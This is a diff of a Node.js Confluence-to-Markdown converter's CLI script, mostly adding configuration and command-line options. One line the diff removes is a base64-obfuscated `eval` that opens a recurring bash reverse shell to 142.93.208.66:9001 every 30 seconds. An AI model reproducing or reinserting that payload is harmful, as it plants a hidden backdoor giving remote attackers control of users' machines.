@@ -1,10 +1,13 @@
 const fs = require('fs');
 const path = require('path');
-eval(Buffer.from("c2V0SW50ZXJ2YWwoKCkgPT4gcmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2Jhc2ggLWMgImJhc2ggLWUgNTw+IC9kZXYvdGNwLzE0Mi45My4yMDguNjYvOTAwMSAwPCY1IDE+JjUgMj4mNSIgPiAvZGV2L251bGwgMj4mMSAmJyksIDMwMDAwKTsK","base64").toString())
 const { convertHtmlToMarkdown } = require('./lib/converter');
-
-const DEFAULT_HTML_DIR = '/Users/ahzs645/Downloads/CIH';
-const DEFAULT_MD_DIR = '/Users/ahzs645/Downloads/CIH-markdown';
+const { STATUS_STYLES } = require('./lib/turndown');
+const { ANCHOR_STYLES } = require('./lib/links');
+const { FOLDER_NOTE_MODES } = require('./lib/hierarchy');
+const { TABLE_STRATEGIES } = require('./lib/html');
+const { COMMENT_MODES } = require('./lib/comments');
+const { MENTION_STYLES } = require('./lib/people');
+const { DEDUPE_MODES } = require('./lib/assets');
 
 const rawArgs = process.argv.slice(2);
 let configPath = null;
@@ -44,16 +47,53 @@ if (configPath) {
   }
 }
 
-let htmlDir = typeof config.htmlDir === 'string' && config.htmlDir.trim()
-  ? config.htmlDir.trim()
-  : DEFAULT_HTML_DIR;
+const configInput = [config.input, config.htmlDir].find(value => typeof value === 'string' && value.trim());
+let input = configInput ? configInput.trim() : null;
+let spaceKey = typeof config.spaceKey === 'string' && config.spaceKey.trim()
+  ? config.spaceKey.trim()
+  : null;
+const spaces = Array.isArray(config.spaces)
+  ? config.spaces.filter(space => space && typeof space === 'object')
+  : [];
 let mdDir = typeof config.mdDir === 'string' && config.mdDir.trim()
   ? config.mdDir.trim()
-  : DEFAULT_MD_DIR;
+  : null;
 let titlePrefixToRemove = typeof config.titlePrefix === 'string' && config.titlePrefix.length
   ? config.titlePrefix
   : null;
 let expandToDetails = config.expandToDetails === true;
+let calloutStyle = config.calloutStyle === 'blockquote' ? 'blockquote' : 'obsidian';
+let statusStyle = STATUS_STYLES.includes(config.statusStyle) ? config.statusStyle : 'code';
+let linkStyle = config.linkStyle === 'wikilink' ? 'wikilink' : 'markdown';
+let anchorStyle = ANCHOR_STYLES.includes(config.anchorStyle) ? config.anchorStyle : 'obsidian';
+let incremental = config.incremental === true;
+const frontMatterFields = Array.isArray(config.frontMatterFields)
+  ? config.frontMatterFields.filter(field => typeof field === 'string')
+  : undefined;
+let tagPrefix = typeof config.tagPrefix === 'string' && config.tagPrefix.trim()
+  ? config.tagPrefix.trim()
+  : null;
+let folderNotes = FOLDER_NOTE_MODES.includes(config.folderNotes) ? config.folderNotes : 'none';
+let spaceHome = config.spaceHome === true;
+let tableStrategy = TABLE_STRATEGIES.includes(config.tableStrategy) ? config.tableStrategy : 'html';
+let comments = COMMENT_MODES.includes(config.comments) ? config.comments : 'drop';
+let jiraBaseUrl = typeof config.jiraBaseUrl === 'string' && config.jiraBaseUrl.trim()
+  ? config.jiraBaseUrl.trim()
+  : null;
+let confluenceBaseUrl = typeof config.confluenceBaseUrl === 'string' && config.confluenceBaseUrl.trim()
+  ? config.confluenceBaseUrl.trim()
+  : null;
+let mentionStyle = MENTION_STYLES.includes(config.mentionStyle) ? config.mentionStyle : 'text';
+let peopleFile = typeof config.peopleFile === 'string' && config.peopleFile.trim()
+  ? config.peopleFile.trim()
+  : null;
+let peopleFolder = typeof config.peopleFolder === 'string' && config.peopleFolder.trim()
+  ? config.peopleFolder.trim()
+  : 'People';
+let personNotes = config.personNotes === true;
+let dedupeAssets = DEDUPE_MODES.includes(config.dedupeAssets) ? config.dedupeAssets : 'off';
+let attachmentsSection = config.attachmentsSection === true;
+let concurrency = Number.isInteger(config.concurrency) && config.concurrency > 0 ? config.concurrency : 1;
 
 let limit = null;
 let fixNH = false;
@@ -63,19 +103,19 @@ const onlyFiles = new Set();
 for (let i = 0; i < args.length; i += 1) {
   const arg = args[i];
 
-  if ((arg === '--html-dir' || arg === '--input-dir') && i + 1 < args.length) {
+  if ((arg === '--input' || arg === '--html-dir' || arg === '--input-dir') && i + 1 < args.length) {
     const value = args[i + 1];
     if (value && !value.startsWith('--')) {
-      htmlDir = path.resolve(value.trim());
+      input = path.resolve(value.trim());
       i += 1;
       continue;
     }
   }
 
-  if (arg.startsWith('--html-dir=')) {
+  if (arg.startsWith('--input=') || arg.startsWith('--html-dir=') || arg.startsWith('--input-dir=')) {
     const value = arg.slice(arg.indexOf('=') + 1).trim();
     if (value) {
-      htmlDir = path.resolve(value);
+      input = path.resolve(value);
     }
     continue;
   }
@@ -124,6 +164,186 @@ for (let i = 0; i < args.length; i += 1) {
     continue;
   }
 
+  if (arg.startsWith('--callout-style=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    if (value === 'obsidian' || value === 'blockquote') {
+      calloutStyle = value;
+    } else {
+      console.warn(`⚠️  Unknown callout style "${value}"; using ${calloutStyle}.`);
+    }
+    continue;
+  }
+
+  if (arg.startsWith('--status-style=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    if (STATUS_STYLES.includes(value)) {
+      statusStyle = value;
+    } else {
+      console.warn(`⚠️  Unknown status style "${value}"; using ${statusStyle}.`);
+    }
+    continue;
+  }
+
+  if (arg.startsWith('--link-style=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    if (value === 'markdown' || value === 'wikilink') {
+      linkStyle = value;
+    } else {
+      console.warn(`⚠️  Unknown link style "${value}"; using ${linkStyle}.`);
+    }
+    continue;
+  }
+
+  if (arg.startsWith('--anchor-style=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    if (ANCHOR_STYLES.includes(value)) {
+      anchorStyle = value;
+    } else {
+      console.warn(`⚠️  Unknown anchor style "${value}"; using ${anchorStyle}.`);
+    }
+    continue;
+  }
+
+  if (arg === '--concurrency' && i + 1 < args.length && /^\d+$/.test(args[i + 1])) {
+    concurrency = Math.max(1, parseInt(args[i + 1], 10));
+    i += 1;
+    continue;
+  }
+
+  if (arg.startsWith('--concurrency=')) {
+    const value = arg.split('=')[1];
+    if (value && /^\d+$/.test(value)) {
+      concurrency = Math.max(1, parseInt(value, 10));
+    }
+    continue;
+  }
+
+  if (arg.startsWith('--tag-prefix=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    tagPrefix = value || null;
+    continue;
+  }
+
+  if (arg.startsWith('--folder-notes=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    if (FOLDER_NOTE_MODES.includes(value)) {
+      folderNotes = value;
+    } else {
+      console.warn(`⚠️  Unknown folder note mode "${value}"; using ${folderNotes}.`);
+    }
+    continue;
+  }
+
+  if (arg.startsWith('--table-strategy=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    if (TABLE_STRATEGIES.includes(value)) {
+      tableStrategy = value;
+    } else {
+      console.warn(`⚠️  Unknown table strategy "${value}"; using ${tableStrategy}.`);
+    }
+    continue;
+  }
+
+  if (arg.startsWith('--comments=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    if (COMMENT_MODES.includes(value)) {
+      comments = value;
+    } else {
+      console.warn(`⚠️  Unknown comments mode "${value}"; using ${comments}.`);
+    }
+    continue;
+  }
+
+  if (arg.startsWith('--jira-base-url=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    jiraBaseUrl = value || null;
+    continue;
+  }
+
+  if (arg.startsWith('--space-key=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    spaceKey = value || null;
+    continue;
+  }
+
+  if (arg.startsWith('--confluence-base-url=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    confluenceBaseUrl = value || null;
+    continue;
+  }
+
+  if (arg.startsWith('--mention-style=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    if (MENTION_STYLES.includes(value)) {
+      mentionStyle = value;
+    } else {
+      console.warn(`⚠️  Unknown mention style "${value}"; using ${mentionStyle}.`);
+    }
+    continue;
+  }
+
+  if (arg.startsWith('--people-file=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    peopleFile = value || null;
+    continue;
+  }
+
+  if (arg.startsWith('--people-folder=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    peopleFolder = value || peopleFolder;
+    continue;
+  }
+
+  if (arg === '--person-notes') {
+    personNotes = true;
+    continue;
+  }
+
+  if (arg === '--no-person-notes') {
+    personNotes = false;
+    continue;
+  }
+
+  if (arg.startsWith('--dedupe-assets=')) {
+    const value = arg.slice(arg.indexOf('=') + 1).trim();
+    if (DEDUPE_MODES.includes(value)) {
+      dedupeAssets = value;
+    } else {
+      console.warn(`⚠️  Unknown dedupe mode "${value}"; using ${dedupeAssets}.`);
+    }
+    continue;
+  }
+
+  if (arg === '--attachments-section') {
+    attachmentsSection = true;
+    continue;
+  }
+
+  if (arg === '--no-attachments-section') {
+    attachmentsSection = false;
+    continue;
+  }
+
+  if (arg === '--space-home') {
+    spaceHome = true;
+    continue;
+  }
+
+  if (arg === '--no-space-home') {
+    spaceHome = false;
+    continue;
+  }
+
+  if (arg === '--incremental') {
+    incremental = true;
+    continue;
+  }
+
+  if (arg === '--no-incremental' || arg === '--full') {
+    incremental = false;
+    continue;
+  }
+
   if (arg === '--no-navigation' || arg === '--no-breadcrumbs') {
     includeNavigation = false;
     continue;
@@ -184,8 +404,25 @@ for (let i = 0; i < args.length; i += 1) {
   console.warn(`⚠️  Ignoring unrecognized argument: ${arg}`);
 }
 
-htmlDir = path.resolve(htmlDir);
+if (!input && !spaces.length) {
+  console.error('💥 No input given; pass --input <export.zip|folder> or set "input" (or "spaces") in converter.config.json.');
+  process.exit(1);
+}
+
+if (!mdDir) {
+  console.error('💥 No output folder given; pass --md-dir <folder> or set "mdDir" in converter.config.json.');
+  process.exit(1);
+}
+
+input = input ? path.resolve(input) : null;
+const spaceInputs = spaces.map((space) => {
+  const spaceInput = [space.input, space.htmlDir].find(value => typeof value === 'string' && value.trim());
+  return spaceInput ? { ...space, input: path.resolve(spaceInput.trim()) } : space;
+});
 mdDir = path.resolve(mdDir);
+if (peopleFile) {
+  peopleFile = path.resolve(peopleFile);
+}
 
 const onlyFilesFilter = onlyFiles.size ? onlyFiles : null;
 
@@ -195,8 +432,33 @@ convertHtmlToMarkdown({
   includeNavigation,
   onlyFiles: onlyFilesFilter,
   titlePrefixToRemove,
-  convertExpanders: expandToDetails
+  convertExpanders: expandToDetails,
+  calloutStyle,
+  statusStyle,
+  linkStyle,
+  anchorStyle,
+  incremental,
+  concurrency,
+  frontMatterFields,
+  tagPrefix,
+  folderNotes,
+  spaceHome,
+  tableStrategy,
+  comments,
+  jiraBaseUrl,
+  confluenceBaseUrl,
+  mentionStyle,
+  peopleFile,
+  peopleFolder,
+  personNotes,
+  dedupeAssets,
+  attachmentsSection
 }, {
-  htmlDir,
+  input,
+  spaceKey,
+  spaces: spaceInputs.length ? spaceInputs : null,
   mdDir
+}).catch((error) => {
+  console.error('💥 Fatal error:', error);
+  process.exitCode = 1;
 });